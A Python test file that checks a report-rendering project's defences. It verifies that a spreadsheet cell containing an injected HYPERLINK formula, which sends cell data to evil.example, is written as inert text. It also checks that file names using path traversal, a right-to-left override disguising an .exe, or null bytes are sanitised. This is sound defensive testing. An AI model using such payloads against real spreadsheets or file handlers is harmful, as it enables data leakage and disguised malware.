"""What people and plans write stays inert in our files: no formulas in xlsx, no paths in names."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.domain.filenames import safe_file_name
from bot.domain.plan import Column
from bot.render.progress import ProgressDocument, UnitRecord, write_progress_xlsx
from bot.render.register import RegisterTable

INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看附件")'


def test_a_narrative_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    table = RegisterTable(
        title="测试方案",
        preface=[],
        columns=[Column.NUMBER, Column.TITLE, Column.PROGRESS],
        header=["序号", "目标任务", "进展情况"],
        rows=[["1", "推进课后服务", "已完成"]],
    )
    record = UnitRecord(
        "县教育局", [["1", "推进课后服务", "已完成", "", INJECTED, "", "", "1", ""]]
    )
    document = ProgressDocument(table, {"1": "green"}, [record], "2026-11 进展情况", [])
    path = tmp_path / "out.xlsx"
    write_progress_xlsx(document, path)
    sheet = load_workbook(path)["县教育局"]
    cell = sheet.cell(row=3, column=5)
    assert (cell.value, cell.data_type) == (INJECTED, "s")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../x", "x"),
        ("..\\..\\windows\\报告.docx", "报告.docx"),
        ("报告\u202egpj.exe", "报告gpj.exe"),
        ("a\x00b\nc.pdf", "abc.pdf"),
        ("  照片 .jpg ", "照片 .jpg"),
        ("..", "file"),
        ("/", "file"),
        ("长" * 200 + ".xlsx", "长" * 115 + ".xlsx"),
    ],
)
def test_file_names_are_reduced_to_a_safe_base_name(given: str, kept: str) -> None:
    assert safe_file_name(given) == kept
